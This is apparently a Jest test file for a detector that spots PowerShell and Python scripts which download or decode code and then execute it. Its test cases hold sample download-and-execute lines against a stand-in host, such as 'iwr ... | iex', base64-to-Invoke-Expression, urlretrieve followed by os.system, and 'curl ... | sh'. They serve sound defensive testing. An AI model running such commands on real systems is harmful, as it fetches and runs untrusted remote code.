/** PowerShell, Python and kin: what is fetched or decoded in one statement and run in another. */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { commandFacts } from '../../src/code/command.ts';
import { readTokenScript } from '../../src/code/token-scripts.ts';

const kinds = (source: string, language: 'powershell' | 'python') => readTokenScript(source, language).spotted.map(({ kind }) => kind);

describe('scripts that are read as tokens', () => {
  it.each<['powershell' | 'python', string, string]>([
    ['powershell', '$a = (iwr https://h.invalid/a).Content\niex $a', 'remote-code'],
    ['powershell', '$w = New-Object Net.WebClient\n$t = $w.DownloadString("https://h.invalid")\n$u = $t\n[ScriptBlock]::Create($u)', 'remote-code'],
    ['powershell', '$b = [Convert]::FromBase64String("aQ==")\n$t = [Text.Encoding]::UTF8.GetString($b)\nInvoke-Expression $t', 'decode-execute'],
    ['powershell', 'Invoke-WebRequest https://h.invalid/a -OutFile "$env:TEMP\\a.exe"\nStart-Process "$env:TEMP\\a.exe"', 'download-execute'],
    ['powershell', '$w.DownloadFile("https://h.invalid/a", $p)\n& $p', 'download-execute'],
    ['python', 'd = urlopen("https://h.invalid").read()\nexec(d)', 'remote-code'],
    ['python', 'c = base64.b64decode(b"eA==")\nexec(c)', 'decode-execute'],
    ['python', 'urlretrieve("https://h.invalid/a", "/tmp/a")\nos.system("/tmp/a")', 'download-execute'],
    ['python', 'import os\nos.system("curl https://h.invalid/a | sh")', 'download-execute'],
    ['python', 'eval get("https://h.invalid/p")', 'remote-code'],
    ['python', "eval(file_get_contents('https://h.invalid/p'));", 'remote-code'],
  ])('%s: %s', (language, source, kind) => {
    expect(kinds(source, language)).toContain(kind);
  });

  it.each<['powershell' | 'python', string]>([
    ['powershell', '$v = (iwr https://h.invalid/version).Content\nWrite-Host $v\nStart-Process notepad.exe'],
    ['powershell', 'Invoke-WebRequest https://h.invalid/a.zip -OutFile a.zip\nExpand-Archive a.zip'],
    ['python', 'd = urlopen("https://h.invalid").read()\nprint(d)\nos.system("make")'],
    ['python', 'subprocess.run("gcc -o a a.c")'],
  ])('quiet, %s: %s', (language, source) => {
    expect(kinds(source, language).filter((kind) => /remote-code|execute/.test(kind))).toEqual([]);
  });

  it('never fail, whatever the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'$a= iex\n;("\').*[\\urlopen'), maxLength: 200 }), (text) => {
        return kinds(text, 'powershell').length + kinds(text, 'python').length >= 0;
      }),
      { seed: 5, numRuns: 1000 },
    );
  });

  it('are found where PowerShell is given nothing but their name', () => {
    expect(commandFacts('pwsh setup.ps1').files).toEqual(['setup.ps1']);
  });
});
